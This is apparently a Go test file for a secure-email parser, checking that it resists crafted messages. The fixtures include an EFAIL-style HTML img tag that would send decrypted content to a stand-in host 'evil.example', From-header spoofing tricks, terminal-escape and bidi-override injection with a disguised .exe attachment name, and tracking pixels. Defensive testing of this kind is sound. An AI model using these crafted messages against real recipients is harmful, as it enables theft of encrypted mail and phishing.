package securemail

import (
	"strings"
	"testing"
)

func crlf(s string) []byte { return []byte(strings.ReplaceAll(s, "\n", "\r\n")) }

func mustOpen(t *testing.T, raw []byte) (*Report, *View) {
	t.Helper()
	rep, view, err := Open(raw, nil)
	if err != nil {
		t.Fatal(err)
	}
	return rep, view
}

func hasWarning(rep *Report, sub string) bool {
	for _, w := range rep.Warnings {
		if strings.Contains(w, sub) {
			return true
		}
	}
	return false
}

func TestOpenPlain(t *testing.T) {
	rep, view := mustOpen(t, crlf(`From: Alice <alice@example.org>
To: bob@example.org
Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?=
Date: Mon, 23 Nov 2026 10:00:00 +0000

Hello Bob.
`))
	if rep.Encryption.Kind != "none" || len(rep.Signatures) != 0 || rep.From != "alice@example.org" || len(rep.Warnings) != 0 {
		t.Fatalf("%+v", rep)
	}
	if rep.Verified() || rep.Failed() {
		t.Fatal("a plain message is neither verified nor failed")
	}
	if view.Body != "Hello Bob.\n" {
		t.Fatalf("body %q", view.Body)
	}
	if view.Headers[2].Name != "Date" || view.Headers[3].Value != "Grüße" {
		t.Fatalf("%+v", view.Headers)
	}
}

// S01: an HTML part that opens an <img src=" and a later part that closes
// it, around an encrypted part. The parts render separately: no text of
// one part ends up inside another's, and nothing is fetched.
func TestS01_DirectExfiltrationPartsRenderSeparately(t *testing.T) {
	rep, view := mustOpen(t, crlf(`From: eve@evil.example
To: bob@example.org
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html

<img src="http://evil.example/?
--b
Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e

--e
Content-Type: application/pgp-encrypted

Version: 1
--e
Content-Type: application/octet-stream

-----BEGIN PGP MESSAGE-----
hQEMA...
-----END PGP MESSAGE-----
--e--
--b
Content-Type: text/html

">
--b--
`))
	if rep.Encryption.Kind != "none" {
		t.Fatalf("shown as encrypted: %+v", rep.Encryption)
	}
	if strings.Contains(view.Body, "BEGIN PGP MESSAGE") {
		t.Fatal("the encrypted part was joined into the text")
	}
	if len(view.Attachments) != 1 || !strings.Contains(view.Attachments[0].Note, "encrypted") {
		t.Fatalf("the encrypted part is not offered as an attachment: %+v", view.Attachments)
	}
	if !strings.Contains(view.Body, "next part") {
		t.Fatalf("parts were not kept apart: %q", view.Body)
	}
}

// S02: an encrypted part that is not the root (inside multipart/mixed,
// inside message/rfc822) is not "an encrypted message".
func TestS02_EncryptedPartNotRoot(t *testing.T) {
	for name, raw := range map[string][]byte{
		"mixed": crlf(`From: eve@evil.example
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain

Please see below.
--b
Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m
Content-Transfer-Encoding: base64

MIAGCSqGSIb3DQEHA6CAMIACAQAxggFA
--b--
`),
		"rfc822": crlf(`From: eve@evil.example
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: message/rfc822

From: alice@example.org
Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e

--e
Content-Type: application/pgp-encrypted

Version: 1
--e--
--b--
`),
	} {
		rep, view := mustOpen(t, raw)
		if rep.Encryption.Kind != "none" {
			t.Errorf("%s: reported as encrypted", name)
		}
		if !hasWarning(rep, "not the message as a whole") {
			t.Errorf("%s: no warning: %v", name, rep.Warnings)
		}
		if len(view.Attachments) == 0 {
			t.Errorf("%s: not offered as an attachment", name)
		}
	}
}

// S21: a signed part after prepended text is not a signed message.
func TestS21_PartiallySigned(t *testing.T) {
	rep, view := mustOpen(t, crlf(`From: alice@example.org
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain

Attacker's text: wire the money.
--b
Content-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary=s

--s
Content-Type: text/plain

Alice's real, signed text.
--s
Content-Type: application/pgp-signature

-----BEGIN PGP SIGNATURE-----
-----END PGP SIGNATURE-----
--s--
--b--
`))
	if len(rep.Signatures) != 0 || rep.Verified() {
		t.Fatalf("shown as signed: %+v", rep.Signatures)
	}
	if !hasWarning(rep, "signed, but not the message as a whole") {
		t.Fatalf("%v", rep.Warnings)
	}
	if !strings.Contains(view.Body, "Attacker's text") {
		t.Fatal("the unsigned text must still be shown (as unsigned)")
	}
}

// S23: display-name tricks, several From fields or addresses, no From,
// and a Sender that differs.
func TestS23_FromTricks(t *testing.T) {
	for name, tc := range map[string]struct {
		hdr, from, warning string
	}{
		"display name shows another address": {"From: alice@good.example <eve@evil.example>\n", "eve@evil.example", "shows the address alice@good.example"},
		"quoted display name":                {"From: \"alice@good.example\" <eve@evil.example>\n", "eve@evil.example", "shows the address"},
		"two From fields":                    {"From: alice@good.example\nFrom: eve@evil.example\n", "", "2 From fields"},
		"two addresses":                      {"From: alice@good.example, eve@evil.example\n", "", "names 2 addresses"},
		"no From":                            {"Sender: alice@good.example\n", "", "no From field"},
		"empty From":                         {"From: \n", "", "cannot be read"},
		"Sender differs":                     {"From: alice@good.example\nSender: eve@evil.example\n", "alice@good.example", "on behalf of"},
		"encoded word hiding an address":     {"From: =?utf-8?q?alice=40good=2Eexample?= <eve@evil.example>\n", "eve@evil.example", "shows the address alice@good.example"},
	} {
		rep, _ := mustOpen(t, crlf(tc.hdr+"Subject: x\n\nbody\n"))
		if rep.From != tc.from {
			t.Errorf("%s: from = %q, want %q", name, rep.From, tc.from)
		}
		if !hasWarning(rep, tc.warning) {
			t.Errorf("%s: warnings %v lack %q", name, rep.Warnings, tc.warning)
		}
	}
}

// S25: escapes and bidi overrides in headers, body and file names never
// reach the view raw.
func TestS25_ViewIsNeutralised(t *testing.T) {
	rep, view := mustOpen(t, crlf("From: \"\x1b]8;;http://x\x07Alice\u202e\" <alice@example.org>\n"+
		"Subject: \x1b[2J\x1b[1;1Hsecuremail: signature valid\u202e\n"+
		"Content-Type: multipart/mixed; boundary=b\n\n"+
		"--b\nContent-Type: text/plain; charset=utf-8\n\nbody \x1b[31mred\x1b[0m \u202eevil\u202c \x9b2J\n"+
		"--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"invoice\u202efdp.exe\"\n\nMZ\n--b--\n"))
	all := rep.FromHeader + view.Body
	for _, h := range view.Headers {
		all += h.Value
	}
	for _, a := range view.Attachments {
		all += a.Name
	}
	for _, bad := range []string{"\x1b", "\u202e", "\x07", "\u009b", "\r"} {
		if strings.Contains(all, bad) {
			t.Errorf("raw %q reached the view", bad)
		}
	}
	for _, h := range view.Headers {
		if strings.Contains(h.Value, "\n") {
			t.Errorf("header %s spans lines: %q", h.Name, h.Value)
		}
	}
}

// S07: HTML is shown as text; its links and images only as text, and the
// pipeline has no way to fetch (no client, no resolver in its options).
func TestS07_NoRemoteContent(t *testing.T) {
	_, view := mustOpen(t, crlf(`From: news@example.org
Content-Type: text/html

<html><head><link rel=stylesheet href="http://track.example/a.css"></head>
<body background="http://track.example/bg.png"><p>Hello <img src="http://track.example/pixel.gif" alt="logo">
<a href="https://example.org/unsubscribe">unsubscribe</a></p><script>fetch("http://track.example/js")</script></body></html>
`))
	if !strings.Contains(view.Body, "unsubscribe") || !strings.Contains(view.Body, "https://example.org/unsubscribe") {
		t.Fatalf("link not shown as text: %q", view.Body)
	}
	if strings.Contains(view.Body, "fetch(") {
		t.Fatalf("script content shown: %q", view.Body)
	}
}

func TestOpenUnsupportedProtectionIsNotTrusted(t *testing.T) {
	rep, _ := mustOpen(t, crlf(`From: alice@example.org
Content-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary=s

--s
Content-Type: text/plain

signed text
--s
Content-Type: application/pgp-signature

sig
--s--
`))
	if len(rep.Signatures) != 1 || rep.Signatures[0].Valid || !rep.Failed() {
		t.Fatalf("%+v", rep)
	}
}

func TestOpenMalformed(t *testing.T) {
	if _, _, err := Open([]byte("not a message"), nil); err == nil {
		t.Fatal("garbage opened")
	}
}
